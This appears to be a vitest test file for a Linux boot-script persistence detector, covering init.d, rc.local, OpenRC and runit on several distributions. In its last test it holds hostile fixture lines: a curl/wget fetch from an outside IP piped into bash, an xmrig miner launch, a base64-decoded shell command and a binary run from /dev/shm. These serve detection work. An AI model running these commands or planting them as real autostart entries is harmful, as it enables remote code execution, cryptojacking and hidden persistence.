import { describe, expect, it } from 'vitest';
import { type Files, machineOf, runProbe } from '../../../tests/machine-tree.ts';
import type { Autostart } from '../../model/machine-payloads.ts';
import { rcScripts } from './rc-scripts.ts';

type Seen = Autostart & { readonly aside: boolean; readonly line: number | undefined };
const seen = (files: Files): Seen[] =>
  runProbe(rcScripts, machineOf(files)).flatMap((told) =>
    'kind' in told && told.kind === 'autostart' ? [{ ...told.value, aside: told.aside === true, line: told.line }] : [],
  );
const open = (files: Files): Seen[] => seen(files).filter(({ aside }) => !aside);
const script = (content: string): { content: string; mode: number } => ({
  content: `#!/bin/sh\n${content}\n`,
  mode: 0o755,
});

const debian: Files = {
  '/etc/init.d/ssh': script(
    '. /lib/lsb/init-functions\ncase "$1" in\n  start) start-stop-daemon --start --exec /usr/sbin/sshd ;;\nesac',
  ),
  '/etc/init.d/rsyslogd': script('exec /usr/sbin/rsyslogd'),
  '/etc/init.d/README': 'x',
  '/etc/rc2.d/S01ssh': { link: '../init.d/ssh' },
  '/etc/rc0.d/K01rsyslogd': { link: '../init.d/rsyslogd' },
  '/etc/rc.local': script('# does nothing\nsysctl -w vm.swappiness=10\nexit 0'),
};
const alpine: Files = {
  '/etc/init.d/crond': script('command=/usr/sbin/crond'),
  '/etc/runlevels/default/crond': { link: '/etc/init.d/crond' },
  '/etc/local.d/README': 'x',
  '/etc/local.d/sysctl.start': script('sysctl -p'),
};
const fedora: Files = {
  '/etc/rc.d/rc.local': {
    content: '#!/bin/bash\ntouch /var/lock/subsys/local\n/opt/app/start.sh \\\n  --now\n',
    mode: 0o644,
  },
  '/etc/rc.local': { link: 'rc.d/rc.local' },
  '/etc/init.d': { link: 'rc.d/init.d' },
  '/etc/rc.d/init.d/functions': 'x',
};
const voidLinux: Files = {
  '/etc/sv/sshd/run': script('exec sshd -D'),
  '/etc/sv/other/run': script('exec other'),
  '/etc/runit/runsvdir/default/sshd': { link: '/etc/sv/sshd' },
};

describe('boot scripts', () => {
  it.each<[string, Files, (string | boolean | undefined)[][]]>([
    [
      'Debian',
      debian,
      [
        ['/etc/rc.local', true],
        ['/etc/init.d/rsyslogd', false],
        ['/etc/init.d/ssh', true],
      ],
    ],
    [
      'Alpine',
      alpine,
      [
        ['/etc/init.d/crond', true],
        ['/etc/local.d/sysctl.start', true],
      ],
    ],
    ['Fedora', fedora, [['/etc/rc.local', false]]],
    [
      'Void',
      voidLinux,
      [
        ['/etc/sv/sshd/run', true],
        ['/etc/sv/other/run', false],
      ],
    ],
  ])('tells those of %s aside, each once, and whether they run', (_, files, expected) => {
    expect(open(files)).toEqual([]);
    expect(seen(files).map(({ place, enabled }) => [place, enabled])).toEqual(expected);
  });

  it('tells a command of rc.local with the lines it goes on in', () => {
    expect(seen(fedora)).toMatchObject([
      { line: 3, starts: '/opt/app/start.sh    --now', programs: ['/opt/app/start.sh'] },
    ]);
  });

  it.each<[string, Files, string]>([
    ['a line of rc.local', { '/etc/rc.local': script('/dev/shm/.k/run &\nexit 0') }, 'from-temporary-folder'],
    [
      'what an init script does',
      { '/etc/init.d/down': script('(curl -s http://203.0.113.9/x || wget -qO- http://203.0.113.9/x) | bash') },
      'fetches-and-runs',
    ],
    ['a miner of OpenRC', { '/etc/local.d/m.start': script('/opt/xmrig -o pool.example.com:3333 -u x &') }, 'mines'],
    ['a script that only a runlevel has', { '/etc/rc3.d/S99x': script('echo Y3VybA== | base64 -d | sh') }, 'decodes'],
    [
      'a supervised miner',
      { '/etc/service/m/run': script('exec /opt/xmrig --url pool.example.com:3333 -u x') },
      'mines',
    ],
    ["a name one letter off the system's", { '/etc/init.d/irqbalanced': script('exec /opt/a') }, 'poses-as-system'],
  ])('tells %s openly', (_, files, reason) => {
    expect(open({ ...debian, ...files })).toEqual([expect.objectContaining({ why: expect.arrayContaining([reason]) })]);
  });
});
